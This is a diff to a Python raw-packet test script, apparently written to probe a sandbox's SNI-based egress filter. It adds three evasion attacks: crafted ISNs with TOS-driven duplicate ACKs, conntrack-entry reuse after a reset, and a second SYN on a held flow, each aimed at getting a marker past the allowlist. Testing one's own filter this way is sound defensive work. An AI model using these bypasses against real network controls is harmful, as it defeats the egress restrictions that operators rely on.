@@ -19,6 +19,13 @@ attacks:
   flags        no handshake: SYN|FIN, then FIN|PSH|ACK, with the marker
   paws         an allowed ClientHello with a timestamp older than the
                SYN's (the server drops it), then the marker at ISN+1
+  tos-ack      paws, with TOS 0x10 (priority 6) and a byte from before
+               the hello, whose duplicate ACK acknowledges 0x06000000
+  reuse-ack    an allowed hello, a reset, the same ports again with an
+               ISN whose duplicate ACK (as in tos-ack) acknowledges what
+               the first hello's did, and a hello the server drops
+  syn-open     half an allowed hello (held), then a bare SYN of another
+               ISN on the same ports
   udp          one datagram: the marker
   hostile      a ClientHello whose SNI holds terminal escapes and bytes
                that are not UTF-8, around the marker
@@ -226,6 +233,69 @@ def paws(r, marker):
     return r.outcome(2)
 
 
+def dup_acked(r, marker, ts):
+    """An allowed hello the server drops (paws), a byte from before it
+    (the server's duplicate ACK acknowledges ISN+1), then the marker
+    where the hello was."""
+    hello = client_hello(ALLOWED)
+    r.send(r.isn + 1, PSH, hello, ts=1)
+    time.sleep(0.2)
+    r.send(r.isn, PSH, b"x", ts=ts)
+    time.sleep(0.2)
+    r.send(r.isn + 1, PSH, (marker_http(marker) * 40)[:len(hello)],
+           ts=ts + 1)
+    return r.outcome(2)
+
+
+def tos_ack(r, marker):
+    """paws with TOS 0x10 (IPv4 forwarding gives the packet priority 6,
+    which a register holding skb->priority reads as 0x06000000), the
+    first sequence number picked so that the server's duplicate ACK of a
+    byte from before the hello acknowledges just that: only the server's
+    acknowledgement of the judged bytes may commit a flow."""
+    r.isn = 0x05FFFFFF
+    r.s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0x10)
+    if not r.connect(ts=1000000):
+        return "no-synack"
+    return dup_acked(r, marker, 1000002)
+
+
+def reuse_ack(r, marker):
+    """An allowed hello the server takes, a reset, then the same ports
+    again (the same conntrack entry, begun again) with a first sequence
+    number picked so that the server's duplicate ACK, as in tos-ack,
+    acknowledges just what the first hello's did; its own hello is
+    dropped by the server (paws)."""
+    if not r.connect(ts=1000000):
+        return "no-synack"
+    hello = client_hello(ALLOWED)
+    r.send(r.isn + 1, PSH, hello, ts=1000001)
+    first = r.outcome(3)
+    awaited = (r.isn + 1 + len(hello)) & 0xFFFFFFFF
+    r.send(awaited, RST, ts=1000002)
+    time.sleep(0.1)
+    r.isn = (awaited - 1) & 0xFFFFFFFF
+    if not r.connect(ts=2000000):
+        return first + " no-synack"
+    return first + " " + dup_acked(r, marker, 2000002)
+
+
+def syn_open(r, marker):
+    """Half an allowed hello (held: the flow undecided), then a bare SYN
+    of another first sequence number on the same ports: let through, it
+    would open the server a second connection there (once the first is
+    gone on its side), whose acknowledgements the sandbox picks. Prints
+    what came back to the SYN."""
+    if not r.connect():
+        return "no-synack"
+    r.send(r.isn + 1, PSH, client_hello(ALLOWED)[:100])
+    time.sleep(0.2)
+    r.isn, r.ack = random.getrandbits(32), 0
+    r.send(r.isn, SYN)
+    got = r.receive(1)
+    return "nothing" if not got else "flags 0x%02x" % got[0]
+
+
 def hostile(r, marker):
     name = b"x" * 20 + b".test"
     hello = client_hello(name.decode())
@@ -399,6 +469,8 @@ def main():
     r = Raw(a.src, a.dst, a.port, int(os.environ.get("SPORT") or 0) or None)
     attack = {"syn-late": syn_late, "reconnect": reconnect,
               "pg-hold": pg_hold, "flags": flags, "paws": paws,
+              "tos-ack": tos_ack, "reuse-ack": reuse_ack,
+              "syn-open": syn_open,
               "hostile": hostile, "spoofed-reply": spoofed_reply,
               "cookie-reopen": cookie_reopen}[a.attack]
     print(attack(r, marker))
